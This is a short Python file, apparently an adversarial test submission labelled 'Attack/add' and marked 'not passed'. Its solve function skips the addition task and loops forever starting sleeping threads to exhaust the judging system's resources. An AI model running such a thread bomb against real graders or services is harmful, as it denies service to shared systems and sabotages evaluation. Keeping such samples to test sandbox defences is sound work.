# problem: Attack/add
# trick: starts threads without end
# verdict: not passed
import threading
import time


def solve(a, b):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
